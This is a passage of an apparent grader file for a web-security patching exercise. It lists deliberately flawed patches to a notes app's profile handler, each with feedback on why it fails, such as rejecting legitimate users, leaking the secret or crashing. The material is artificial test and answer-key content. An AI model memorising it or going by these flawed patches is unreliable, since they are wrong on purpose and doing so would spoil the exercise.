            "attack_6(…) (line 3 of the cell) raised IndexError: list index out of range",
        ),
    ],
    "E7.7": [
        (
            """
class Patched(Notes):
    def save_profile(self):
        abort(403)
""",
            "the attack fails, but your patch also refuses a visitor: POST /profile with email "
            "and theme answers 403; refuse only what is wrong",
        ),
        (
            """
class Patched(Notes):
    def user(self):
        abort(401)
""",
            "the attack fails, but your patch also refuses a visitor: POST /notes with text "
            "answers 401; refuse only what is wrong",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        abort(404)
""",
            "the attack fails, but the feature is gone, too: for a visitor, POST /profile with "
            "email and theme answers 404; keep the page, and close the hole",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        return "saved"
""",
            "the attack fails, but the app does not work as before: for a visitor, GET "
            "/profile should have 'ada@example.com' for 'email', but has None",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"
""",
            "the attack fails, but for a stranger, POST /profile with email answers 200; it "
            "should answer 401",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            session[field] = request.form.get(field)
        return "saved"
""",
            "the attack fails, but the app does not work as before: for a visitor, GET "
            "/profile should have 'ada@example.com' for 'email', but has …",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        form = request.form
        session.update({"email": form["email"], "theme": form["theme"]})
        return "saved"
""",
            "the attack fails, but the app does not work as before: for a second visitor, POST "
            "/profile with email answers 400",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        session.reset("userName")
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"
""",
            "the attack fails, but the app does not work as before: for a visitor, GET "
            "/profile should have 'ada@example.com' for 'email', but has …",
        ),
        (
            """
class Patched(Notes):
    profile = {}

    def save_profile(self):
        self.user()
        self.profile.update(request.form)
        return "saved"

    def show_profile(self):
        self.user()
        return self.profile
""",
            "the attack fails, but the app does not work as before: for a second visitor, GET "
            "/profile should have None for 'theme', but has 'dark'",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                sesion[field] = request.form[field]
        return "saved"
""",
            "your patch crashes: POST /profile raised NameError: name 'sesion' is not defined",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        if self.user() != self.admin:
            abort(403)
        session.update(request.form)
        return "saved"
""",
            "the attack fails, but your patch also refuses a visitor: POST /profile with email "
            "and theme answers 403; refuse only what is wrong",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        if self.user() == self.admin:
            abort(403)
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"
""",
            "the attack fails, but your patch also refuses the admin: POST /profile with "
            "theme answers 403",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if request.form.get(field):
                session[field] = request.form[field]
        return "saved"
""",
            "the attack fails, but the app does not work as before: for a second visitor, "
            "GET /profile should have '' for 'email', but has 'bob@sub.test.org'",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        if request.form.get("theme", "dark") not in ("dark", "light"):
            abort(400)
        return super().save_profile() if "userName" not in request.form else "saved"
""",
            "the attack fails, but the app does not work as before: for the admin, POST "
            "/profile with theme answers 400",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def add_note(self):
        name = self.user()
        if any(owner == name for owner, text in self.notes.values()):
            abort(403)
        return super().add_note()
""",
            "the attack fails, but your patch also refuses a visitor: POST /notes with text"
            " answers 403",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def add_note(self):
        if self.user() == self.admin:
            abort(403)
        return super().add_note()
""",
            "the attack fails, but your patch also refuses the admin: POST /notes with text"
            " answers 403",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def log_in(self):
        name, password = request.form["userName"], request.form["password"]
        if self.passwords.get(name) != password:
            abort(401)
        session["userName"] = name
        return "logged in"
""",
            "the attack fails, but the app does not work as before: for a third visitor, "
            "GET /profile should have None for 'email', but has 'shared@example.com'",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def __init__(self, *facts):
        super().__init__(*facts)
        self.settings["secret"] = "x" * 40
""",
            "your patch changes the app's secret, and all users would be logged out; leave "
            "`self.settings` as it is",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def status(self):
        counts = {"users": len(self.passwords), "notes": len(self.notes)}
        return {**counts, "all": self.settings}
""",
            "the attack fails, but for a stranger, GET /status shows the app's secret, or "
            "something made from it",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def status(self):
        return {**super().status(), "names": list(self.passwords)}
""",
            "the attack fails, but for a stranger, GET /status shows the name or note of "
            "another visitor, or something made from it",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def read_note(self, number):
        owner, text = self.notes.get(number)
        if owner != self.user():
            abort(404)
        return {"text": text}
""",
            "your patch crashes: for a visitor, GET /notes/999 raised TypeError: ",
        ),
        (
            """
class Patched(Notes):
    def save_profile(self):
        self.user()
        for field in ("email", "theme"):
            if field in request.form:
                session[field] = request.form[field]
        return "saved"

    def change_password(self):
        name = request.form["userName"]
        if self.user() != name:
            abort(403)
        return super().change_password()
""",
            "the attack fails, but your patch also refuses the admin: POST /password with "
            "userName and password and code answers 401",
        ),
        (
            """
class Patched(Notes):
    def __init__(self):
        self.fields = ("email", "theme")
""",
            "…raised TypeError: …takes 1 positional argument but 6 were given",
        ),
    ],
}

EQUIVALENT: dict[str, dict[str, str]] = {
    "E7.7": {
        "line 7: `'saved'` to `'savee'`": "nobody reads this text",
    },
}
